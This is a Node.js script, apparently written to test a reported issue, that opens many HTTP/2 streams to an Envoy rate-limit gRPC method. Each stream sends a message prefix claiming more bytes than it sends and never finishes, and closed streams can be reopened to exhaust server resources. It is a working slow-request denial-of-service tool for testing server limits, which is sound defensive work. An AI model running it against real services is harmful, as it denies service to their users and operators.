// The attacker of issue 28, item 2: HTTP/2 streams to the RLS method that each send the start
// of a gRPC message claiming more bytes than it sends, and never finish. Node's own http2 (no
// gRPC library): it keeps to the server's flow control and stream limits as a real client does.
//   node half_open_streams.js HOST:PORT SOURCE CONNECTIONS STREAMS BYTES CLAIMED HOLD_MS [PATH]
//                             [REOPEN_MS]
// SOURCE: the local address to connect from. BYTES: what each stream sends (prefix included);
// CLAIMED: the message length its 5-byte gRPC prefix states. REOPEN_MS: a stream the server
// ends is opened again that long after (0, the default: not), keeping the pressure on. Prints two JSON lines: "sent" once
// every stream has written its bytes or been closed (or 2 s passed), "end" after HOLD_MS, then
// closes everything. Counts: streams opened, written, and closed by the server (RST_STREAM or
// trailers), how soon after being opened the server closed them, and the server's
// SETTINGS_MAX_CONCURRENT_STREAMS (max_streams).
'use strict';
const http2 = require('http2');
const net = require('net');

const [address, source, connections, streams, bytes, claimed, holdMs, path, reopenMs] =
  process.argv.slice(2);
const [host, port] = [address.slice(0, address.lastIndexOf(':')),
                      Number(address.slice(address.lastIndexOf(':') + 1))];
const body = Buffer.alloc(Number(bytes), 0x61);
body.writeUInt8(0, 0);
body.writeUInt32BE(Number(claimed), 1);

const start = Date.now();
const count = { opened: 0, written: 0, closed: 0, max_open_ms: 0, max_streams: null };
const total = Number(connections) * Number(streams);
const sessions = [];
let sentPrinted = false;

function print(event) {
  process.stdout.write(JSON.stringify({ event, ...count, ms: Date.now() - start }) + '\n');
}
function maybeSent() {
  if (!sentPrinted && count.written + count.closed >= total) {
    sentPrinted = true;
    print('sent');
  }
}

let ending = false;
function open(session) {
  if (ending || session.destroyed) return;
  const stream = session.request({
    ':method': 'POST',
    ':path': path || '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit',
    'content-type': 'application/grpc',
    te: 'trailers',
  });
  let opened = 0;
  stream.on('ready', () => { opened = Date.now(); ++count.opened; });
  stream.on('error', () => {});
  stream.on('close', () => {
    if (ending) return;
    ++count.closed;
    if (opened) count.max_open_ms = Math.max(count.max_open_ms, Date.now() - opened);
    maybeSent();
    if (Number(reopenMs) > 0) setTimeout(() => open(session), Number(reopenMs));
  });
  stream.resume();
  stream.write(body, () => { ++count.written; maybeSent(); });
}

for (let c = 0; c < Number(connections); ++c) {
  const session = http2.connect(`http://${address}`, {
    createConnection: () => net.connect({ host, port, localAddress: source }),
  });
  session.on('error', () => {});
  session.on('remoteSettings', (s) => { count.max_streams = s.maxConcurrentStreams ?? null; });
  sessions.push(session);
  for (let s = 0; s < Number(streams); ++s) open(session);
}

setTimeout(() => { if (!sentPrinted) { sentPrinted = true; print('sent'); } }, 2000);
setTimeout(() => {
  // Still open now: never closed by the server.
  print('end');
  ending = true;
  for (const s of sessions) s.destroy();
  process.exit(0);
}, Number(holdMs));
